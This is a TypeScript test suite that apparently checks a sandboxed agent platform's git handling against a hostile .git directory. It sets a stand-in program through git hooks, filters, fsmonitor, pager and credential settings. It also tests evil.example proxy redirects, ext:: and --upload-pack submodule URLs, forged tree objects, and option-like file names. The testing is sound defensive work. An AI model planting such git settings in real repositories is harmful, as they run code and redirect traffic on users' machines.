import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { parseDiff } from "@loom/core/domain/unified-diff"
import { FILES, gitWorld, key, type GitBox } from "./testing/git-world.ts"

/*
 * An agent, or an install script, owns `/workspace/.git`. Whatever it writes there, Loom's git says what the files are, and runs nothing.
 * The host is looked at in `apps/sandbox/src/escape`: here the programs would leave `ran-*` where the session could see them.
 */
const { at, bare, bareWith, inBox } = gitWorld()

const EVIL = `printf '#!/bin/sh\\ntouch /workspace/ran-%s /tmp/ran-%s\\ncat\\n' program program > /tmp/evil; chmod +x /tmp/evil`
const FIXED = "export const sum = (a, b) => a + b\n"
const FIX = `printf '%s' '${FIXED}' > src/sum.js`

/** What the change says, with the proof that nothing ran. */
const said = ({ id, sh, workspace }: GitBox) =>
  Effect.gen(function* () {
    const change = yield* workspace.change(id, key(), at.base)
    assert.strictEqual(yield* sh("ls /workspace/ran-* /tmp/ran-* 2>/dev/null | wc -l"), "0\n")
    return change
  })

/** Each after the fix of `src/sum.js`, which must be seen. */
const SETTINGS: ReadonlyArray<readonly [string, string]> = [
  [
    "programs that git would run",
    `git config core.fsmonitor /tmp/evil; git config core.pager /tmp/evil; git config core.editor /tmp/evil; git config core.gitProxy /tmp/evil
     git config core.sshCommand /tmp/evil; git config core.askPass /tmp/evil; git config core.alternateRefsCommand /tmp/evil; git config credential.helper '!/tmp/evil'
     git config gpg.program /tmp/evil; git config commit.gpgSign true; git config uploadpack.packObjectsHook /tmp/evil; git config sequence.editor /tmp/evil
     git config diff.external /tmp/evil; git config diff.x.command /tmp/evil; git config diff.x.textconv /tmp/evil; git config merge.x.driver /tmp/evil
     git config filter.x.clean /tmp/evil; git config filter.x.smudge /tmp/evil; git config filter.x.process /tmp/evil; git config filter.x.required true
     echo '* filter=x diff=x merge=x' > .git/info/attributes`,
  ],
  [
    "hooks in every place",
    `mkdir -p .git/hooks hooks template/hooks
     for h in pre-commit post-checkout post-index-change pre-push reference-transaction post-rewrite commit-msg fsmonitor-watchman; do cp /tmp/evil .git/hooks/$h; cp /tmp/evil template/hooks/$h; done
     git config core.hooksPath /workspace/.git/hooks; git config init.templateDir /workspace/template; rm -rf template hooks`,
  ],
  [
    "settings from other files",
    `printf '[core]\\n\\thooksPath=/tmp\\n\\tfsmonitor=/tmp/evil\\n\\tworktree=/tmp\\n' > /tmp/more; cp /tmp/more ~/.gitconfig; mkdir -p ~/.config/git; cp /tmp/more ~/.config/git/config
     echo '*' > ~/.config/git/ignore; echo '* -diff' > ~/.config/git/attributes; git config include.path /tmp/more; git config 'includeIf.gitdir:/.path' /tmp/more
     git config extensions.worktreeConfig true; cp /tmp/more .git/config.worktree`,
  ],
  [
    "another tree, other comparisons",
    `git config core.worktree /tmp; git config core.fileMode false; git config core.trustctime false; git config core.checkStat minimal; git config core.ignoreCase true
     git config core.symlinks false; git config core.sparseCheckout true; echo '/none' > .git/info/sparse-checkout; git config core.bare true; git config diff.ignoreSubmodules all`,
  ],
  [
    "exclude files and flags of the index",
    `echo '*' >> .git/info/exclude; git config core.excludesFile .git/info/exclude; git -c safe.directory='*' update-index --assume-unchanged src/sum.js
     git -c safe.directory='*' update-index --skip-worktree README.md; cp .git/index .git/loom-index`,
  ],
  [
    "the old size and time",
    `touch -r README.md /tmp/ref; git config core.trustctime false; touch -r /tmp/ref src/sum.js; git -c safe.directory='*' status >/dev/null`,
  ],
  [
    "replaced objects and grafts",
    `blob=$(git -c safe.directory='*' hash-object -w src/sum.js); old=$(git -c safe.directory='*' rev-parse HEAD:src/sum.js); git -c safe.directory='*' replace $old $blob
     echo $(git -c safe.directory='*' rev-parse HEAD) > .git/info/grafts`,
  ],
  [
    "caches that lie",
    `mkdir -p .git/objects/info; head -c 4000 /dev/urandom > .git/objects/info/commit-graph; head -c 4000 /dev/urandom > .git/objects/pack/multi-pack-index`,
  ],
  [
    "alternates out of the box",
    `echo /root/.git/objects > .git/objects/info/alternates; echo 'http://git.loom.internal/' > .git/objects/info/http-alternates`,
  ],
  [
    "a configuration that is none",
    `echo '[[[' > .git/config; echo garbage > .git/HEAD; head -c 100 /dev/urandom > .git/index; echo x > .git/packed-refs`,
  ],
  ["a .git that is a link", `mv .git /tmp/elsewhere; ln -s /tmp/elsewhere .git`],
]

describe("a .git that somebody else wrote", () => {
  it.live.each(SETTINGS)("%s: the change is what the files are", ([, script]) =>
    inBox((box) =>
      Effect.gen(function* () {
        yield* box.sh(`${EVIL}; ${FIX}; ${script}`)
        const { files, patch } = yield* said(box)
        assert.deepInclude(files, { path: "src/sum.js", status: "modified", additions: 1, deletions: 1 })
        assert.include(patch, `+${FIXED}`)
        const sha = yield* box.workspace.commit(box.id, key(), at.base, COMMIT)
        yield* box.workspace.push(box.id, key(), sha, COMMIT.branch, at.fullName)
        assert.strictEqual(bare("show", `${COMMIT.branch}:src/sum.js`), FIXED.trim())
        yield* box.workspace.restore(box.id, key(), at.base, "")
        assert.strictEqual(yield* box.sh("cat src/sum.js"), FILES["src/sum.js"])
        assert.strictEqual(yield* box.sh("ls /workspace/ran-* /tmp/ran-* 2>/dev/null | wc -l"), "0\n")
      }),
    ),
  )

  it.live("one that is no folder any more is said", () =>
    inBox((box) =>
      Effect.gen(function* () {
        yield* box.sh("rm -rf .git; echo 'gitdir: /root/.git' > .git")
        const error = yield* Effect.flip(box.workspace.change(box.id, key(), at.base))
        assert.strictEqual(error._tag, "GitFailed")
        assert.include(error.message, ".git is gone")
      }),
    ),
  )

  it.live("does not run while the gateway is open: a clone that is begun again begins from nothing", () =>
    inBox((box) =>
      Effect.gen(function* () {
        yield* box.sh(`${EVIL}; rm .git/loom-clone; git config filter.x.smudge /tmp/evil; echo '* filter=x' > .git/info/attributes; rm README.md
          git config url.http://evil.example/.insteadOf http://git.loom.internal/; git config core.gitProxy /tmp/evil; git config http.proxy http://evil.example`)
        yield* box.workspace.clone(box.id, key(), { fullName: at.fullName, commit: at.base, branch: "main" })
        assert.strictEqual(
          yield* box.sh("cat README.md; git config --get filter.x.smudge; ls /tmp/ran-* 2>/dev/null | wc -l"),
          "# hello\n0\n",
        )
      }),
    ),
  )

  it.live("forged objects: what a clean clone says is another change, and only that can be published", () =>
    Effect.gen(function* () {
      // A folder of the base is rewritten in place to hold a file more: git reads such trees without hashing them.
      const forge = `${FIX}; echo evil > src/evil.js; g() { git -c safe.directory='*' "$@"; }
        for pack in .git/objects/pack/*.pack; do mv $pack /tmp/p.pack; rm -f .git/objects/pack/*; g unpack-objects -q < /tmp/p.pack; done
        root=$(g rev-parse HEAD:src); { g ls-tree $root; printf '100644 blob %s\\tevil.js\\n' $(g hash-object -w src/evil.js); } | g mktree > /tmp/tree
        at=.git/objects/$(echo $root | cut -c1-2)/$(echo $root | cut -c3-); rm -f $at; cp .git/objects/$(cut -c1-2 /tmp/tree)/$(cut -c3- /tmp/tree) $at`
      const [hidden, forged] = yield* inBox((box) =>
        Effect.gen(function* () {
          yield* box.sh(forge)
          const change = yield* box.workspace.change(box.id, key(), at.base)
          return [change, yield* box.workspace.commit(box.id, key(), at.base, COMMIT)] as const
        }),
      )
      assert.deepStrictEqual(
        hidden.files.map((file) => file.path),
        ["src/sum.js"],
        "the attack works where it is made: the extra file is in no patch",
      )
      const [clean, sha] = yield* inBox((box) =>
        Effect.gen(function* () {
          yield* box.workspace.restore(box.id, key(), at.base, hidden.patch)
          const change = yield* box.workspace.change(box.id, key(), at.base)
          const commit = yield* box.workspace.commit(box.id, key(), at.base, COMMIT)
          yield* box.workspace.push(box.id, key(), commit, COMMIT.branch, at.fullName)
          return [change, commit] as const
        }),
      )
      assert.notStrictEqual(forged, sha)
      assert.strictEqual(clean.hash, hidden.hash)
      assert.strictEqual(bare("diff", "--name-only", at.base, sha), "src/sum.js")
    }),
  )
})

const COMMIT = {
  branch: "loom/issue-1",
  message: "fix: sum adds (#1)\n\nLoom-Task: t1\n",
  authorName: "loom[bot]",
  authorEmail: "loom@example.test",
  dateS: 1_700_000_000,
}

describe("a change that another clone must be able to repeat", () => {
  const again = (script: string, more = "") =>
    Effect.gen(function* () {
      const change = yield* inBox((box) => Effect.andThen(box.sh(script), said(box)))
      const shown = yield* inBox((box) =>
        Effect.gen(function* () {
          yield* box.workspace.restore(box.id, key(), at.base, change.patch)
          const repeated = yield* said(box)
          assert.deepStrictEqual(repeated, change)
          const sha = yield* box.workspace.commit(box.id, key(), at.base, COMMIT)
          yield* box.workspace.push(box.id, key(), sha, COMMIT.branch, at.fullName)
          return yield* box.sh(more)
        }),
      )
      assert.deepStrictEqual(
        parseDiff(change.patch)
          .map((file) => file.path)
          .toSorted(),
        change.files.map((file) => file.path).toSorted(),
        "the diff's reader and git name the same files",
      )
      return { change, shown, pushed: bare("ls-tree", "-r", "-z", "--name-only", COMMIT.branch).split("\0") }
    })

  it.live("names of any bytes", () =>
    Effect.gen(function* () {
      const names = [
        "a\\nb",
        "-rf",
        "--output=x",
        "tab\\there",
        'quo"te',
        "back\\\\slash",
        "\\001bell\\007",
        "\\342\\200\\256rtl.js",
        " lead and trail ",
        ":(glob)*",
        "*",
        "a b/x b/a",
        "ü/é",
        "caf\\351.txt",
        "caf\\352.txt",
      ]
      const { change, pushed } = yield* again(
        `cd /workspace; mkdir -p 'a b/x b' 'ü'; n=0; for f in ${names.map((name) => `'${name}'`).join(" ")}; do n=$((n+1)); echo "$n" > "./$(printf '%b.' "$f" | head -c -1)"; done`,
      )
      assert.lengthOf(change.files, names.length)
      assert.includeMembers(
        change.files.map((file) => file.path),
        [
          "a\nb",
          "-rf",
          "--output=x",
          "tab\there",
          'quo"te',
          "back\\slash",
          "\u202ertl.js",
          " lead and trail ",
          "a b/x b/a",
          "caf\\xe9.txt",
          "caf\\xea.txt",
        ],
      )
      assert.includeMembers(pushed, ["a\nb", "-rf", "--output=x", "tab\there", 'quo"te', "back\\slash", "*", ":(glob)*"])
    }),
  )

  it.live("attributes that the change itself brings", () =>
    Effect.gen(function* () {
      const { shown } = yield* again(
        `printf '*.bat text eol=crlf\\n*.id ident\\n*.u16 working-tree-encoding=UTF-16LE\\n*.js text\\n' > .gitattributes
         printf 'a\\r\\nb\\r\\n' > run.bat; printf '$Id$\\n' > x.id; printf 'h\\0i\\0' > t.u16; printf 'one\\r\\ntwo\\r\\n' > src/sum.js`,
        "od -c run.bat | head -n 1 | tr -s ' '; od -An -c t.u16 | tr -s ' '",
      )
      assert.include(shown, "\\r \\n")
      assert.include(shown, "h \\0 i \\0")
    }),
  )

  it.live("a repository inside the repository is left out, and what is tracked beside it is not", () =>
    Effect.gen(function* () {
      const { change } = yield* again(
        `git init -q made; echo x > made/a; (cd made; git -c user.name=a -c user.email=a@a add -A; git -c user.name=a -c user.email=a@a commit -qm x); mkdir -p 'un born'; git init -q 'un born/it'
         mkdir linked; echo 'gitdir: /tmp/nowhere' > linked/.git; git init -q src; echo new > src/new.js; ${FIX}`,
      )
      assert.deepStrictEqual(
        change.files.map((file) => file.path),
        ["src/new.js", "src/sum.js"],
      )
    }),
  )

  it.live("links out of the tree are links", () =>
    Effect.gen(function* () {
      const { change } = yield* again(
        "ln -s /etc/passwd etc; ln -s ../../../root up; ln -s .git/config config; rm -r src; ln -s /tmp src; mkfifo pipe",
      )
      assert.includeMembers(
        change.files.map((file) => file.path),
        ["etc", "up", "config", "src", "src/sum.js"],
      )
      assert.notInclude(change.patch, "root:")
    }),
  )
})

describe("what git refuses is said", () => {
  /** A tree that no git would write, as the head of `main`. */
  const evilTree = (entries: ReadonlyArray<readonly [mode: string, name: string, sha: string]>) => {
    const raw = Buffer.concat(entries.flatMap(([mode, name, sha]) => [Buffer.from(`${mode} ${name}\0`), Buffer.from(sha, "hex")]))
    const tree = bareWith(raw, "hash-object", "-t", "tree", "--literally", "-w", "--stdin")
    return bareWith("x", "commit-tree", tree, "-p", at.base)
  }

  it.live.each([".git", ".GIT", "git~1", "..", ".g\u200cit"])("a base with a file %j", (name) =>
    inBox(
      (box) =>
        Effect.gen(function* () {
          const blob = bareWith("evil", "hash-object", "-w", "--stdin")
          const inner = bareWith(
            Buffer.concat([Buffer.from("100644 config\0"), Buffer.from(blob, "hex")]),
            "hash-object",
            "-t",
            "tree",
            "-w",
            "--stdin",
          )
          const commit = evilTree([["40000", name, inner]])
          bare("update-ref", "refs/heads/main", commit)
          const error = yield* Effect.flip(box.workspace.clone(box.id, key(), { fullName: at.fullName, commit, branch: "main" }))
          assert.strictEqual(error._tag, "GitFailed")
          assert.match(error.message, /invalid path|unable to checkout/)
        }),
      false,
    ),
  )

  it.live("submodules are not fetched: no ext::, no file::, no option for a URL", () =>
    inBox(
      (box) =>
        Effect.gen(function* () {
          const modules = `[submodule "a"]\n\tpath = a\n\turl = ext::sh -c touch% /tmp/ran-ext\n[submodule "b"]\n\tpath = b\n\turl = /root\n[submodule "c"]\n\tpath = c\n\turl = --upload-pack=touch /tmp/ran-option\n`
          const blob = bareWith(modules, "hash-object", "-w", "--stdin")
          const commit = evilTree([["100644", ".gitmodules", blob], ...["a", "b", "c"].map((name) => ["160000", name, at.base] as const)])
          bare("update-ref", "refs/heads/main", commit)
          yield* box.workspace.clone(box.id, key(), { fullName: at.fullName, commit, branch: "main" })
          assert.strictEqual(yield* box.sh("ls -A a b c | tr -d '\\n'; ls /tmp/ran-* 2>/dev/null | wc -l"), "a:b:c:0\n")
          assert.strictEqual((yield* box.workspace.change(box.id, key(), commit)).patch, "")
        }),
      false,
    ),
  )

  it.live("names that differ only in case, and folders that a test locked", () =>
    inBox((box) =>
      Effect.gen(function* () {
        yield* box.sh("echo 1 > Case; echo 2 > case; mkdir -p locked/deep; echo x > locked/deep/f; chmod 500 locked/deep locked")
        assert.includeMembers(
          (yield* said(box)).files.map((file) => file.path),
          ["Case", "case", "locked/deep/f"],
        )
        yield* box.workspace.restore(box.id, key(), at.base, "")
        assert.strictEqual(yield* box.sh("ls -d Case case locked 2>/dev/null | wc -l"), "0\n")
      }),
    ),
  )

  it.live("a base whose line endings are against its own attributes is no change", () =>
    inBox(
      (box) =>
        Effect.gen(function* () {
          const [text, attributes] = [
            bareWith("a\r\nb\r\n", "hash-object", "-w", "--stdin"),
            bareWith("* text\n", "hash-object", "-w", "--stdin"),
          ]
          const commit = evilTree([
            ["100644", ".gitattributes", attributes],
            ["100644", "dos.txt", text],
          ])
          bare("update-ref", "refs/heads/main", commit)
          yield* box.workspace.clone(box.id, key(), { fullName: at.fullName, commit, branch: "main" })
          assert.strictEqual((yield* box.workspace.change(box.id, key(), commit)).patch, "")
        }),
      false,
    ),
  )
})
